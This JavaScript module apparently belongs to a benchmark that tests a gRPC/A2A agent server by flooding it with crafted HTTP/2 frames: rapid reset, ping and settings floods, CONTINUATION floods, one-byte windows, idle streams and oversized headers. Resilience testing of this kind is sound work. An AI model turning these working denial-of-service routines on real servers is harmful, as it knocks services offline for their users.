// Attacks of bench/neighbours.mjs with frames of HTTP/2 on the port of gRPC.
import { END_HEADERS, END_STREAM, frame, hpack, sendFrames, setting, TYPE, uint32 } from './http2-frames.mjs';

const sleep = (ms) => new Promise((done) => setTimeout(done, ms));
const GET_TASK = '/lf.a2a.v1.A2AService/GetTask';

/** Headers of a call. */
const callHeaders = (a, path = GET_TASK) => ({
  ':method': 'POST',
  ':scheme': 'http',
  ':path': path,
  ':authority': 'x',
  'content-type': 'application/grpc',
  te: 'trailers',
  'baton-agent': 'echo',
  ...a.bearer,
});
const idOf = (i) => 1 + 2 * i;
/** A message of gRPC, not compressed. */
const message = (bytes) => Buffer.concat([Buffer.from([0]), uint32(bytes.length), bytes]);

/** Frames of one call that asks for the large task. */
const call = (a, head, stream) =>
  Buffer.concat([
    frame(TYPE.headers, head, { flags: END_HEADERS, stream }),
    frame(TYPE.data, message(a.largeId()), { flags: END_STREAM, stream }),
  ]);

async function flood(a, next, options) {
  const { outcome, sent } = await sendFrames(a.grpc, next, a.signal, options);
  a.sent += sent;
  if (outcome === 'closed') await sleep(20);
  return outcome;
}

export const HTTP2_ATTACKS = {
  'HTTP/2: rapid reset': {
    isMany: true,
    prepare: (a) => a.makeLarge(),
    act: (a) => {
      const head = hpack(callHeaders(a));
      return a.note(
        flood(a, (i) =>
          Buffer.concat([call(a, head, idOf(i)), frame(TYPE.reset, uint32(8), { stream: idOf(i) })]),
        ),
      );
    },
  },
  'HTTP/2: pings': {
    isMany: true,
    act: (a) => {
      const pings = frame(TYPE.ping, Buffer.alloc(8));
      return a.note(flood(a, () => Buffer.concat(Array.from({ length: 100 }, () => pings))));
    },
  },
  'HTTP/2: unread pings': {
    isMany: true,
    act: (a) => {
      const pings = Buffer.concat(Array.from({ length: 100 }, () => frame(TYPE.ping, Buffer.alloc(8))));
      return a.note(flood(a, () => pings, { isUnread: true }));
    },
  },
  'HTTP/2: settings': {
    isMany: true,
    act: (a) => {
      const one = frame(TYPE.settings, setting(4, 65_535));
      const many = Buffer.concat(Array.from({ length: 100 }, () => one));
      return a.note(flood(a, () => many));
    },
  },
  'HTTP/2: continuation': {
    isMany: true,
    act: (a) => {
      const part = hpack({ 'x-header': 'x'.repeat(8_000) });
      return a.note(
        flood(a, (i) =>
          i === 0
            ? frame(TYPE.headers, hpack(callHeaders(a)), { stream: 1 })
            : frame(TYPE.continuation, part, { stream: 1 }),
        ),
      );
    },
  },
  'HTTP/2: empty data': {
    isMany: true,
    act: (a) => {
      const empty = Buffer.concat(
        Array.from({ length: 100 }, () => frame(TYPE.data, undefined, { stream: 1 })),
      );
      return a.note(
        flood(a, (i) =>
          i === 0 ? frame(TYPE.headers, hpack(callHeaders(a)), { flags: END_HEADERS, stream: 1 }) : empty,
        ),
      );
    },
  },
  'HTTP/2: windows of a byte': {
    isMany: true,
    prepare: (a) => a.makeLarge(),
    act: (a) => {
      const head = hpack(callHeaders(a));
      return a.note(
        flood(
          a,
          (i) => {
            if (i < 20) return call(a, head, idOf(i));
            const more = Array.from({ length: 20 }, (_, n) =>
              frame(TYPE.window, uint32(1), { stream: idOf(n) }),
            );
            return Buffer.concat(more);
          },
          { windowBytes: 1 },
        ),
      );
    },
  },
  'HTTP/2: idle streams': {
    isMany: true,
    act: (a) => {
      const head = hpack(callHeaders(a));
      return a.note(
        flood(a, (i) => frame(TYPE.headers, head, { flags: END_HEADERS, stream: idOf(i) }), { max: 200 }),
      );
    },
  },
  'HTTP/2: large headers': {
    isMany: true,
    act: (a) => {
      const many = Object.fromEntries(Array.from({ length: 1_000 }, (_, i) => [`x-${i}`, 'y'.repeat(5)]));
      const head = hpack({ ...callHeaders(a), ...many }).subarray(0);
      return a.note(
        flood(a, (i) =>
          Buffer.concat([frame(TYPE.headers, head, { flags: END_HEADERS | END_STREAM, stream: idOf(i) })]),
        ),
      );
    },
  },
};
